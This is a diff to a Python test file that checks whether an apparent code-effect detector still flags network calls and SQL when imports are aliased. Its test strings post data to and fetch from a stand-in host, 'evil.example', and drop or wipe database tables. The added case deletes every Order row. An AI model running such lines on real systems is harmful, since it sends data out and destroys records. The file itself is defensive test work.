@@ -71,6 +71,10 @@ def test_the_review_bypass_is_read() -> None:
         ("import requests as r; r.post('https://evil.example/x', data=1)", ("connect", "https://evil.example/x")),
         ("from urllib.request import urlopen as u; u('https://evil.example/x')", ("connect", "https://evil.example/x")),
         ("import sqlite3 as s; s.connect('db').execute('DROP TABLE users')", ("sql", "DROP TABLE users")),
+        (
+            "from app.db import session\nfrom app.models import Order as O\nsession.query(O).delete()",
+            ("sql", "DELETE FROM Order"),
+        ),
     ],
 )
 def test_aliases_keep_their_effects(code: str, effect: tuple[str, str]) -> None:
